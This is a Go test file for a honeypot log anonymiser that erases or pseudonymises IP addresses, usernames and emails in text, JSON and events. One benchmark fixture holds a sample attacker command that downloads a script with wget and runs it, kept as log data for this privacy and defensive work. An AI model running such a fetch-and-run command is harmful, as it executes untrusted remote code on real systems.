package personal_test

import (
	"encoding/base64"
	"encoding/json"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"honeyguide"
	"honeyguide/internal/personal"
)

func subject(t testing.TB, text string) personal.Subject {
	t.Helper()
	s, err := personal.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func mark(t testing.TB) personal.Mark {
	t.Helper()
	m, err := personal.ParseMark("8000000000000007")
	if err != nil {
		t.Fatal(err)
	}
	return m
}

const addr, word = "100::8000:0:0:7", "erased-8000000000000007"

func TestParse(t *testing.T) {
	for in, want := range map[string]string{
		"address:203.0.113.7": "address:203.0.113.7", "address:::ffff:203.0.113.7": "address:203.0.113.7", "address: 2001:DB8:0::7 ": "address:2001:db8::7",
		"user:Bob": "user:bob", "email:Bob@Example.COM": "email:bob@example.com",
	} {
		if got := subject(t, in).String(); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
	for _, in := range []string{
		"", "bob", "address:", "address:300.1.1.1", "address:0.0.0.0", "address:203.0.113.0/24", "user:", "user:b", "user:root", "user:12", "user:a\x00b",
		"email:bob", "email:@x.y", "email:bob@host", "email:b ob@x.y", "name:bob", "user:" + strings.Repeat("x", 300),
	} {
		if s, err := personal.Parse(in); err == nil {
			t.Errorf("%.40q was taken as %q", in, s)
		}
	}
}

func TestText(t *testing.T) {
	for _, c := range []struct{ subject, in, want string }{
		{"address:203.0.113.7", "from 203.0.113.7 port 22", "from " + addr + " port 22"},
		{"address:203.0.113.7", "203.0.113.7:4444", "[" + addr + "]:4444"},
		{"address:203.0.113.7", "attacker:203.0.113.7", "attacker:" + addr},
		{"address:203.0.113.7", "brute:203.0.113.7:ssh", "brute:" + addr + ":ssh"},
		{"address:203.0.113.7", "block 203.0.113.7/32.", "block " + addr + "/128."},
		{"address:203.0.113.7", "203.000.113.007", addr},
		{"address:203.0.113.7", "::ffff:203.0.113.7 [::FFFF:cb00:7107]:80", addr + " [" + addr + "]:80"},
		{"address:203.0.113.7", "7.113.0.203.in-addr.arpa", word + ".in-addr.arpa"},
		{"address:203.0.113.7", "host-203-0-113-7.isp.example, 7-113-0-203.dyn.example", "host-" + word + ".isp.example, " + word + ".dyn.example"},
		{"address:203.0.113.7", "http://3405803783/ http://0xcb007107/", "http://" + addr + "/ http://" + addr + "/"},
		{"address:203.0.113.7", "IP 203.0.113.7.443 > 198.51.100.1.22", "IP " + addr + ".443 > 198.51.100.1.22"},
		{"address:203.0.113.7", "x203.0.113.7 face203.0.113.7", "x" + addr + " face" + addr},
		{"address:203.0.113.7", "203.0.113.70 1203.0.113.7 1.203.0.113.7 203.0.113.78/32", "203.0.113.70 1203.0.113.7 1.203.0.113.7 203.0.113.78/32"},
		{"address:2001:db8::7", "2001:db8::7, 2001:DB8:0:0:0:0:0:7 and [2001:db8::0007]:22.", addr + ", " + addr + " and [" + addr + "]:22."},
		{"address:2001:db8::7", "attacker:2001:db8::7 source:2001:db8::7 2001:db8::7:443", "attacker:" + addr + " source:" + addr + " " + addr + ":443"},
		{"address:2001:db8::7", "2001:db8::70 aa:bb:cc:dd:ee:ff 12:30:07", "2001:db8::70 aa:bb:cc:dd:ee:ff 12:30:07"},
		{"user:bob", "bob BOB /home/bob/.ssh bob@host (bob)", word + " " + word + " /home/" + word + "/.ssh " + word + "@host (" + word + ")"},
		{"user:bob", "bobby abob bob_x böbob", "bobby abob bob_x böbob"},
		{"email:bob@example.com", "mail Bob@Example.com, <bob@example.com>. xbob@example.com bob@example.com.au", "mail " + word + "@erased.invalid, <" + word + "@erased.invalid>. xbob@example.com bob@example.com.au"},
	} {
		got, n := personal.Erase(subject(t, c.subject), mark(t)).Text(c.in)
		if got != c.want {
			t.Errorf("%s in %q\n got %q\nwant %q", c.subject, c.in, got, c.want)
		}
		if (n > 0) != (c.in != c.want) {
			t.Errorf("%s in %q: %d counted", c.subject, c.in, n)
		}
		// A ledger knows the hash only and finds the same.
		key := []byte("key")
		s := subject(t, c.subject)
		if got, _ := personal.EraseHashes(key, map[string]personal.Mark{s.Hash(key): mark(t)}).Text(c.in); got != c.want {
			t.Errorf("by hash: %s in %q\n got %q\nwant %q", c.subject, c.in, got, c.want)
		}
	}
}

func TestJSON(t *testing.T) {
	raw := base64.StdEncoding.EncodeToString([]byte("from 203.0.113.7\n"))
	doc := `{ "src": {"addr":"203.0.113.7:22"}, "by\u0041": "a\t203.0.113.\u0037", "n": 203.0, "raw": "` + raw + `", "203.0.113.7": [1, "203.0.113.7"] }`
	got, n := personal.Erase(subject(t, "address:203.0.113.7"), mark(t)).JSON([]byte(doc))
	want := `{ "src": {"addr":"[` + addr + `]:22"}, "by\u0041": "a\t` + addr + `", "n": 203.0, "raw": "` +
		base64.StdEncoding.EncodeToString([]byte("from "+addr+"\n")) + `", "` + addr + `": [1, "` + addr + `"] }`
	if d := cmp.Diff(want, string(got)); d != "" || n != 5 {
		t.Error(n, d)
	}
	// A person called like a country or a key of an object changes neither.
	got, _ = personal.Erase(subject(t, "user:al"), mark(t)).JSON([]byte(`{"country":"AL","al":"al"}`))
	if want := `{"country":"AL","al":"` + word + `"}`; string(got) != want {
		t.Errorf("%s, want %s", got, want)
	}
}

func TestEvent(t *testing.T) {
	e := honeyguide.Event{
		Session: "s1", Src: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("203.0.113.7:999"), Hostname: "somebody.example", Country: "DE"},
		Dst:         honeyguide.Endpoint{Addr: netip.MustParseAddrPort("198.51.100.1:22")},
		Observables: []honeyguide.Observable{{Name: "src", Type: "ip", Value: "203.0.113.7"}},
		Attrs:       map[string]any{honeyguide.AttrCommand: "ping 203.0.113.7", honeyguide.AttrCount: int64(3), "list": []any{"203.0.113.7", map[string]any{"203.0.113.7": "x"}}},
		Raw:         []byte(`{"ip":"203.0.113.\u0037"}`), Time: time.Unix(1, 0),
	}
	before, _ := json.Marshal(e)
	got, n := personal.Erase(subject(t, "address:203.0.113.7"), mark(t)).Event(e)
	after, _ := json.Marshal(e)
	if string(before) != string(after) {
		t.Error("the event that was given changed")
	}
	text, _ := json.Marshal(got)
	if n != 6 || strings.Contains(string(text), "203.0.113") || strings.Contains(string(text), "somebody") {
		t.Errorf("%d: %s", n, text)
	}
	if got.Src.Addr != netip.MustParseAddrPort("["+addr+"]:999") || got.Src.Country != "DE" || got.Dst != e.Dst || string(got.Raw) != `{"ip":"`+addr+`"}` {
		t.Errorf("%s", text)
	}
}

func TestPseudonyms(t *testing.T) {
	p := personal.NewPseudonyms([]byte("one"))
	a, b, far := p.Addr(netip.MustParseAddr("203.0.113.7")), p.Addr(netip.MustParseAddr("203.0.113.8")), p.Addr(netip.MustParseAddr("203.0.114.7"))
	if a == b || a == far || a.As16()[8] != b.As16()[8] || [4]byte(a.AsSlice()[8:12]) != [4]byte(b.AsSlice()[8:12]) || [4]byte(a.AsSlice()[8:12]) == [4]byte(far.AsSlice()[8:12]) {
		t.Errorf("neighbours %s and %s, another network %s", a, b, far)
	}
	if p.Addr(a) != a || !personal.IsMark(a) || p.Name(p.Name("Bob")) != p.Name("bob") {
		t.Error("a pseudonym has a pseudonym")
	}
	if other := personal.NewPseudonyms([]byte("two")); other.Addr(netip.MustParseAddr("203.0.113.7")) == a || other.Name("bob") == p.Name("bob") {
		t.Error("another key, the same pseudonym")
	}
	if once, again := personal.NewPseudonyms(nil), personal.NewPseudonyms(nil); once.Name("bob") == again.Name("bob") {
		t.Error("two exports have the same pseudonyms")
	}
	for _, name := range []string{"user-bob", "erased-by-me", "user-0123456789ag"} { // peers choose their names
		if p.Name(name) == name {
			t.Errorf("%s passes for a pseudonym", name)
		}
	}
	if p.Name("root") != "root" {
		t.Error("root is nobody")
	}
	for _, s := range []string{"address:203.0.113.7", "user:bob", "email:bob@example.com"} {
		who := subject(t, s)
		text, _ := p.All().Field("user.name", map[personal.Kind]string{personal.User: who.Value}[who.Kind])
		if who.Kind != personal.User {
			text, _ = p.All().Text("from " + who.Value + ".")
		}
		hit := false
		for _, alias := range p.Aliases(who) {
			hit = hit || personal.Erase(alias, mark(t)).Has(text) > 0
		}
		if !hit {
			t.Errorf("%s became %q, and no alias finds it", s, text)
		}
	}
	got, _ := p.All().Field("doc", `{"user":"bob","command":"ssh bob@203.0.113.7","x":"127.0.0.1 1.2.3","mail":"a@b.example"}`)
	want := `{"user":"` + p.Name("bob") + `","command":"ssh bob@` + a.String() + `","x":"127.0.0.1 1.2.3","mail":"` + p.Name("a@b.example") + `@erased.invalid"}`
	if got != want {
		t.Errorf("\n got %s\nwant %s", got, want)
	}
}

func FuzzText(f *testing.F) {
	for _, s := range []string{"203.0.113.7", "::ffff:203.0.113.7:1", "2001:db8::7", `{"a":["203.0.113.7"]}`, "bob@203-0-113-7.x", "1.2.3.4.5.6", "\xff:::::", "3405803783"} {
		f.Add(s)
	}
	var list []*personal.Rewriter
	for _, s := range []string{"address:203.0.113.7", "address:2001:db8::7", "user:bob", "email:bob@example.com"} {
		list = append(list, personal.Erase(subject(f, s), mark(f)))
	}
	list = append(list, personal.NewPseudonyms([]byte("k")).All())
	f.Fuzz(func(t *testing.T, s string) {
		for i, r := range list {
			out, n := r.Text(s)
			if (n == 0) != (out == s) {
				t.Fatalf("%d: %d replaced: %q to %q", i, n, s, out)
			}
			if i < 4 && r.Has(out) > 0 { // what is gone is gone
				t.Fatalf("%d: %q became %q, which still has it", i, s, out)
			}
			if i == 4 { // who is cut off begins again
				again, _ := r.Text(out)
				for _, sp := range r.Spans(s) {
					if !strings.Contains(again, strings.TrimSuffix(sp.Text, "@erased.invalid")) {
						t.Fatalf("%q became %q and then %q", s, out, again)
					}
				}
			}
			if json.Valid([]byte(s)) {
				if out, _ := r.JSON([]byte(s)); !json.Valid(out) {
					t.Fatalf("%d: %q became %q, which is no JSON", i, s, out)
				}
			}
		}
	})
}

func BenchmarkErase(b *testing.B) {
	text := `{"id":"01","src":{"addr":"198.51.100.77:4444"},"cmd":"wget http://198.51.100.3/x.sh -O /tmp/x; chmod +x /tmp/x && /tmp/x; uname -a","at":"2026-01-01T00:00:00.000001Z"}`
	for _, s := range []string{"address:203.0.113.7", "address:2001:db8::7", "user:bob"} {
		r := personal.Erase(subject(b, s), mark(b))
		b.Run(s, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				r.JSON([]byte(text))
			}
		})
	}
}
